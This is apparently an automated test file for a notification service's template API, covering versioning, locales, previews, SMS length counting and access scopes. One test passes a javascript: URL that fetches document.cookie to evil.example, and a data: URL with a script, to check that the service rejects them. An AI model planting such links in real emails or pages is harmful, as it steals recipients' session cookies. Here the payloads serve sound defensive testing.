import assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';
import { auth, startTestHerald } from '../support/herald.ts';
import { bearer, createApp, type Harness } from './helpers.ts';

type View = { id: string; version: number; versions: number[]; defaultLocale: string; locales: Record<string, unknown>; parameters: string[]; requiredParameters: string[]; createdAt: string };
type ProblemBody = { code: string; status: number; detail?: string; field?: string; locale?: string };

const welcome = {
  defaultLocale: 'en',
  locales: {
    en: {
      push: { title: 'Welcome, {{name}}', body: 'Order {{order.id}}', data: { orderId: '{{order.id}}' } },
      email: { subject: 'Welcome {{name}}', html: '<p>Hi {{name}}</p>{{#if coupon}}<p>{{coupon}}</p>{{/if}}' },
    },
    'ko-kr': { sms: { body: '{{name}}님 환영합니다' } },
  },
};

describe('templates over HTTP', () => {
  let h: Harness;
  const call = (method: 'GET' | 'POST' | 'PUT', url: string, payload?: object, headers: Record<string, string> = auth) =>
    h.app.inject({ method, url, headers, ...(payload ? { payload } : {}) });

  before(async () => {
    h = await startTestHerald();
  });
  after(async () => {
    await h.close();
  });

  it('POST creates version 1 (201) with canonical locale tags and the parameters it uses', async () => {
    const res = await call('POST', '/v1/templates/welcome', welcome);
    assert.equal(res.statusCode, 201, res.body);
    assert.equal(res.headers.location, '/v1/templates/welcome');
    const body = res.json<View>();
    assert.deepEqual([body.id, body.version, body.versions, body.defaultLocale], ['welcome', 1, [1], 'en']);
    assert.deepEqual(Object.keys(body.locales).sort(), ['en', 'ko-KR']);
    assert.deepEqual(body.parameters, ['coupon', 'name', 'order.id']);
    assert.deepEqual(body.requiredParameters, ['name', 'order.id']);
  });

  it('POST again → 409 problem template_exists', async () => {
    const res = await call('POST', '/v1/templates/welcome', welcome);
    assert.equal(res.statusCode, 409, res.body);
    assert.match(String(res.headers['content-type']), /^application\/problem\+json/);
    assert.equal(res.json<ProblemBody>().code, 'template_exists');
  });

  it('PUT adds version 2 (200); repeating it adds nothing; GET reads the latest or ?version=1', async () => {
    const v2 = { ...welcome, locales: { ...welcome.locales, en: { sms: { body: 'Hi {{name}}, v2' } } } };
    const put = await call('PUT', '/v1/templates/welcome', v2);
    assert.equal(put.statusCode, 200, put.body);
    assert.deepEqual([put.json<View>().version, put.json<View>().versions], [2, [1, 2]]);
    const again = await call('PUT', '/v1/templates/welcome', v2);
    assert.deepEqual([again.statusCode, again.json<View>().version], [200, 2]);

    const latest = (await call('GET', '/v1/templates/welcome')).json<View>();
    assert.deepEqual([latest.version, latest.versions, latest.parameters], [2, [1, 2], ['name']]);
    const first = await call('GET', '/v1/templates/welcome?version=1');
    assert.equal(first.statusCode, 200, first.body);
    assert.deepEqual([first.json<View>().version, first.json<View>().parameters], [1, ['coupon', 'name', 'order.id']]);
  });

  it('PUT on a template that does not exist creates it (201)', async () => {
    const res = await call('PUT', '/v1/templates/reset-password', { defaultLocale: 'en', locales: { en: { email: { subject: 'Reset', text: 'Code {{code}}' } } } });
    assert.equal(res.statusCode, 201, res.body);
    assert.equal(res.json<View>().version, 1);
  });

  it('GET an unknown template or version → 404 problem', async () => {
    const none = await call('GET', '/v1/templates/nope');
    assert.deepEqual([none.statusCode, none.json<ProblemBody>().code], [404, 'template_not_found']);
    const v9 = await call('GET', '/v1/templates/welcome?version=9');
    assert.deepEqual([v9.statusCode, v9.json<ProblemBody>().code], [404, 'template_version_not_found']);
  });

  it('a part that does not compile → 422 template_invalid naming the locale and part; nothing is stored', async () => {
    const res = await call('POST', '/v1/templates/broken', { defaultLocale: 'en', locales: { en: { sms: { body: 'ok' } }, ko: { email: { subject: 'Hi {{name', text: 'x' } } } });
    assert.equal(res.statusCode, 422, res.body);
    const p = res.json<ProblemBody>();
    assert.deepEqual([p.code, p.field, p.locale], ['template_invalid', 'email.subject', 'ko']);
    assert.match(p.detail ?? '', /^locales\.ko\.email\.subject: Parse error/);
    assert.equal((await call('GET', '/v1/templates/broken')).statusCode, 404);
    const helper = await call('PUT', '/v1/templates/broken', { defaultLocale: 'en', locales: { en: { push: { title: '{{upper name}}', body: 'b' } } } });
    assert.deepEqual([helper.statusCode, helper.json<ProblemBody>().field], [422, 'push.title']);
    const deep = await call('PUT', '/v1/templates/broken', { defaultLocale: 'en', locales: { en: { email: { subject: 's', html: `${'{{#if a}}'.repeat(4_000)}x${'{{/if}}'.repeat(4_000)}` } } } });
    assert.equal(deep.statusCode, 422, deep.body);
    assert.match(deep.json<ProblemBody>().detail ?? '', /^locales\.en\.email\.html: nested too deeply/);
  });

  it('a body that breaks the schema → 422 validation_failed naming the field', async () => {
    const cases: [object, string][] = [
      [{ defaultLocale: 'de', locales: { en: { sms: { body: 'x' } } } }, 'defaultLocale'],
      [{ defaultLocale: 'en', locales: { en: { fax: { body: 'x' } } } }, 'fax'],
      [{ defaultLocale: 'en', locales: { 'not a tag': { sms: { body: 'x' } } } }, 'locales'],
      [{ defaultLocale: 'en', locales: { en: {} } }, 'at least one of push, sms or email'],
      [{ defaultLocale: 'en', locales: { en: { push: { title: 't', body: 'b', data: { aps: '{{x}}' } } } } }, 'locales/en/push/data/aps: data key \\"aps\\" is reserved by APNs or FCM'],
    ];
    for (const [payload, mentions] of cases) {
      const res = await call('POST', '/v1/templates/schema-check', payload);
      assert.equal(res.statusCode, 422, res.body);
      assert.equal(res.json<ProblemBody>().code, 'validation_failed');
      assert.ok(res.body.includes(mentions), `${mentions}: ${res.body}`);
    }
    assert.equal((await call('GET', '/v1/templates/bad%20id')).statusCode, 422);
  });

  it('previews a version for a locale as a send would render it, writes nothing, and names a missing parameter', async () => {
    type Preview = { id: string; version: number; locales: Record<string, string>; content: { push?: { title: string; data?: Record<string, string> }; sms?: { body: string }; email?: { subject: string; html?: string } } };
    const reader = await createApp(h, ['read']);
    const head = await h.herald.events.headPosition();
    const res = await call('POST', '/v1/templates/welcome/preview', { params: { name: 'Ada', order: { id: '42' }, coupon: '<b>10%</b>' }, locale: 'ko-KR', version: 1 }, bearer(reader.token));
    assert.equal(res.statusCode, 200, res.body);
    const preview = res.json<Preview>();
    assert.deepEqual([preview.id, preview.version], ['welcome', 1]);
    assert.deepEqual(preview.locales, { push: 'en', sms: 'ko-KR', email: 'en' }, 'fallback per channel');
    assert.equal(preview.content.sms?.body, 'Ada님 환영합니다');
    assert.deepEqual(preview.content.push?.data, { orderId: '42' });
    assert.equal(preview.content.email?.html, '<p>Hi Ada</p><p>&lt;b&gt;10%&lt;/b&gt;</p>', 'escaped in email html as sent');
    // Counted by type: earlier tests' deliveries may append their own events meanwhile.
    const written = (await h.herald.events.readAll({ fromPosition: head })).filter((e) => e.type === 'NotificationRequested' || e.type.startsWith('Template'));
    assert.deepEqual(written, [], 'nothing written');
    const asDevices = await call('POST', '/v1/templates/welcome/preview', { params: { name: 'Ada', order: { id: '42' } }, locale: 'ko_KR', version: 1 }, bearer(reader.token));
    assert.deepEqual([asDevices.statusCode, asDevices.json<Preview>().locales.sms], [200, 'ko-KR'], 'a locale as iOS and Android give it');

    const missing = await call('POST', '/v1/templates/welcome/preview', { params: { order: { id: '42' } } });
    assert.equal(missing.statusCode, 422);
    assert.equal(missing.json<ProblemBody>().code, 'template_parameter_missing');
    assert.match(missing.body, /"path":"\/params"/);
    assert.equal((await call('POST', '/v1/templates/nope/preview', {})).statusCode, 404);
  });

  it('a send renders only the channels it sends: a parameter another channel needs is not asked for', async () => {
    const otp = { defaultLocale: 'en', locales: { en: { email: { subject: 'Sign in', text: 'Open {{link}}' }, sms: { body: 'Your code is {{code}}' } } } };
    assert.equal((await call('POST', '/v1/templates/sign-in', otp)).statusCode, 201);
    await call('PUT', '/v1/users/t-both', { email: 'both@example.com', phone: '+14155550123' });
    await call('PUT', '/v1/users/t-mail', { email: 'mail@example.com' });
    const send = (userId: string, params: object, channels?: string[]) => call('POST', '/v1/notifications', { to: [{ userId }], category: 'c', template: { id: 'sign-in', params }, ...(channels ? { channels } : {}) });
    const named = await send('t-both', { link: 'https://example.com/l' }, ['email']);
    assert.equal(named.statusCode, 202, named.body);
    // No channels named: those the user can be reached on (email only).
    const reachable = await send('t-mail', { link: 'https://example.com/l' });
    assert.equal(reachable.statusCode, 202, reachable.body);
    assert.deepEqual(reachable.json<{ notifications: { channel: string }[] }>().notifications.map((n) => n.channel), ['email']);
    // A channel it does send still needs its parameters.
    const sms = await send('t-both', { link: 'https://example.com/l' }, ['sms']);
    assert.equal(sms.statusCode, 422, sms.body);
    assert.equal(sms.json<ProblemBody>().code, 'template_parameter_missing');
    // A parameter given as null is refused like a missing one, before anything is written.
    const head = await h.herald.events.headPosition();
    const nulled = await send('t-both', { link: null }, ['email']);
    assert.equal(nulled.statusCode, 422, nulled.body);
    assert.equal(nulled.json<ProblemBody>().code, 'template_parameter_missing');
    assert.match(nulled.body, /missing parameter \\"link\\" \(null, which counts as missing/);
    // Counted by type: the earlier sends' deliveries may append their own events meanwhile.
    const requested = (await h.herald.events.readAll({ fromPosition: head })).filter((e) => e.type === 'NotificationRequested');
    assert.equal(requested.length, 0, 'nothing written');
  });

  it('a parameter that would put a script URL into an email\'s link is a 422 naming it, before anything is written; the same link to a page is tracked', async () => {
    const reset = { defaultLocale: 'en', locales: { en: { email: { subject: 'Reset', html: '<p><a href="{{link.url}}">Choose a new password</a></p>' } } } };
    assert.equal((await call('POST', '/v1/templates/reset-link', reset)).statusCode, 201);
    await call('PUT', '/v1/users/t-link', { email: 'link@example.com' });
    const send = (url: string) => ({ to: [{ userId: 't-link' }], category: 'c', template: { id: 'reset-link', params: { link: { url } } } });
    const head = await h.herald.events.headPosition();
    const res = await call('POST', '/v1/notifications', send('javascript:fetch(`//evil.example/${document.cookie}`)'));
    assert.equal(res.statusCode, 422, res.body);
    const problem = res.json<ProblemBody & { errors: { path: string }[] }>();
    assert.equal(problem.code, 'template_parameter_invalid');
    assert.equal(problem.errors[0]!.path, '/template/params/link/url');
    assert.match(problem.detail!, /parameter "link\.url" puts a javascript: URL/);
    const batch = await call('POST', '/v1/notifications/batch', { requests: [send('https://shop.example/reset?t=1'), send('data:text/html,<script>alert(1)</script>')] });
    assert.equal(batch.statusCode, 207, batch.body);
    const [sent, refused] = batch.json<{ results: { status: number; error?: { errors: { path: string }[] } }[] }>().results;
    assert.equal(sent!.status, 202);
    assert.deepEqual([refused!.status, refused!.error!.errors[0]!.path], [422, '/requests/1/template/params/link/url']);
    // Counted by type: the good item's delivery may append its own events meanwhile.
    const requested = (await h.herald.events.readAll({ fromPosition: head })).filter((e) => e.type === 'NotificationRequested');
    assert.equal(requested.length, 1, 'only the good item written');
  });

  it('counts an SMS as Twilio does: the preview reports its encoding and segments, and 1,600 characters is the limit with € counting two', async () => {
    const notice = { defaultLocale: 'en', locales: { en: { sms: { body: '{{text}}' } } } };
    assert.equal((await call('POST', '/v1/templates/sms-notice', notice)).statusCode, 201);
    const preview = async (text: string) => call('POST', '/v1/templates/sms-notice/preview', { params: { text } });
    const gsm = await preview(`${'a'.repeat(152)}€ done`);
    assert.equal(gsm.statusCode, 200, gsm.body);
    assert.deepEqual(gsm.json<{ smsLength: unknown }>().smsLength, { encoding: 'GSM-7', characters: 159, segments: 1 });
    assert.deepEqual((await preview('Your order shipped 📦')).json<{ smsLength: unknown }>().smsLength, { encoding: 'UCS-2', characters: 21, segments: 1 });
    assert.deepEqual((await preview('x'.repeat(161))).json<{ smsLength: unknown }>().smsLength, { encoding: 'GSM-7', characters: 161, segments: 2 });

    // 1,596 UTF-16 code units, but 1,604 characters in GSM-7: Twilio would refuse it after the 202.
    const body = `${'a'.repeat(1588)}${'€'.repeat(8)}`;
    const over = await preview(body);
    assert.deepEqual([over.statusCode, over.json<ProblemBody>().code], [422, 'template_parameter_invalid']);
    assert.match(over.json<ProblemBody>().detail!, /1604 characters as Twilio counts them \(GSM-7.*11 segments\), over the 1600 Twilio takes/);
    await call('PUT', '/v1/users/t-sms', { phone: '+14155550125' });
    const inline = await call('POST', '/v1/notifications', { to: [{ userId: 't-sms' }], category: 'c', content: { sms: { body } } });
    assert.equal(inline.statusCode, 422, inline.body);
    assert.match(inline.body, /content\/sms\/body: it is 1604 characters as Twilio counts them/);
    const fits = await call('POST', '/v1/notifications', { to: [{ userId: 't-sms' }], category: 'c', content: { sms: { body: body.slice(0, 1592) } } });
    assert.equal(fits.statusCode, 202, fits.body);
  });

  it('reading needs the read scope, writing needs admin', async () => {
    const reader = await createApp(h, ['read']);
    const sender = await createApp(h, ['send', 'read']);
    assert.equal((await call('GET', '/v1/templates/welcome', undefined, bearer(reader.token))).statusCode, 200);
    const write = await call('PUT', '/v1/templates/welcome', welcome, bearer(sender.token));
    assert.deepEqual([write.statusCode, write.json<ProblemBody>().code], [403, 'insufficient_scope']);
  });
});
